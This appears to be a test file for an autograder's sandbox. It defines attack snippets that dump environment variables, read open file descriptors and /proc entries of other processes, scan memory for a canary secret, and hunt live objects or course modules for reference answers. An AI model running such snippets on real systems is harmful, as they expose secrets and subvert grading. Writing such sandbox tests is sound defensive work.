"""Attacks that search what is there anyway: processes, memory, open files, living objects, modules.

Whatever is found is printed, so that it would stand in the graded notebook. All answers are wrong.
"""

from __future__ import annotations

from tests.attacks.attack import OTHERS, START, Attack
from tests.attacks.reading import SHOW

ENVIRONMENT = (
    SHOW
    + """
print(dict(os.environ))
show("/proc/self/environ", f"/proc/{os.getppid()}/environ")
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(1000):
    if environ[number] is None: break
    print(environ[number])
"""
)
DESCRIPTORS = """
import os
for number in range(1024):
    try: print(number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError: pass
    for read in (lambda: os.pread(number, 200_000, 0), lambda: os.listdir(number)):
        try: print(number, read())
        except OSError: pass
"""
PROC = (
    SHOW
    + """
for name in ("cmdline", "maps", "mountinfo", "status", "environ"): show("/proc/[0-9]*/" + name)
for number in (1, os.getppid()):
    show(f"/proc/{number}/root{COURSE}/gradebook.db", f"/proc/{number}/cwd/*", f"/proc/{number}/root{HOME}/*")
"""
)
MEMORY = """
import ctypes, os
def regions():
    try: lines = open("/proc/self/maps").read().splitlines()
    except OSError: return
    for line in lines:
        span, rights = line.split()[:2]
        low, high = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and high - low < 2**27 and "[v" not in line: yield low, high - low
needle = b"canary-" + b"secret"
for low, size in regions():
    try: data = ctypes.string_at(low, size)
    except Exception: continue
    at = data.find(needle)
    while at >= 0:
        print(data[at:at + 100])
        at = data.find(needle, at + 1)
for number in (os.getppid(), 1):
    try: print(open(f"/proc/{number}/mem", "rb").read(100))
    except OSError as error: print(error)
"""
OBJECTS = """
import gc, sys
frame = sys._getframe()
while frame is not None:
    print(frame.f_code.co_filename, sorted(frame.f_globals)[:50])
    frame = frame.f_back
wanted = ("judge", "reference", "solution", "hints", "misconceptions", "expected")
for thing in gc.get_objects():
    name = getattr(thing, "__qualname__", None) or getattr(thing, "__name__", "")
    module = getattr(thing, "__module__", "") or ""
    ours = isinstance(module, str) and module.startswith(("autograder", "divnet"))
    if ours and isinstance(name, str) and any(word in name.lower() for word in wanted):
        print("found", module, name, thing)
        for argument in (np.linspace(-2, 20, 50), "activation"):
            try: print(thing(argument))
            except BaseException: pass
"""
MODULES = """
import importlib, pkgutil, sys, autograder
asked = np.array([-1.0, 0.5, 20.0])
def ours():
    import divnet
    for package in (autograder, divnet):
        for found in pkgutil.walk_packages(package.__path__, package.__name__ + "."): yield found.name
    for found in pkgutil.iter_modules(): yield found.name
    for part in ("judging", "reference", "exercises", "exercises.activation", "notebook", "reference_values"):
        yield "autograder." + part
    for part in ("activation", "network", "course_models", "tensorflow_activation"): yield "divnet." + part
known = ("autograder", "divnet", "mpmath", "course", "lessons", "solutions")
for name in ours():
    if not name.startswith(known): continue
    try: module = importlib.import_module(name)
    except BaseException as error:
        print(name, error); continue
    print(name, sorted(vars(module)))
    for said in ("activation", "activation_slope", "divide", "judge", "reference", "solution", "hint"):
        function = getattr(module, said, None)
        if not callable(function): continue
        for argument in (asked, "activation"):
            try:
                answer = function(argument)
                if answer is not None: globals()[said] = function
                print(said, answer)
            except BaseException as error: print(said, error)
"""

ATTACKS = [
    Attack(
        "read-environment",
        "prints environment variables, its own and its parent's",
        cells=[
            (START, ENVIRONMENT),
        ],
    ),
    Attack("read-descriptors", "reads whatever file is still open", cells=[(START, DESCRIPTORS)]),
    Attack(
        "read-proc",
        "goes through /proc to files and command lines of other processes",
        cells=[
            (START, PROC),
        ],
        unsafe=OTHERS,
    ),
    Attack(
        "read-memory",
        "searches its own memory, which is a copy of its parent's, and its parent's",
        cells=[
            (START, MEMORY),
        ],
        status="graded or partly graded or timed out",
        unsafe=OTHERS,
    ),
    Attack(
        "read-objects",
        "searches frames and all living objects for a judge, and asks it",
        cells=[
            (START, OBJECTS),
            ("activation", OBJECTS),
        ],
        status="graded or partly graded or timed out",
    ),
    Attack(
        "read-modules",
        "imports every module of the course that it can find, and asks it for the answer",
        cells=[(START, MODULES)],
        instead={"activation": MODULES, "activation-slope": MODULES},
    ),
]
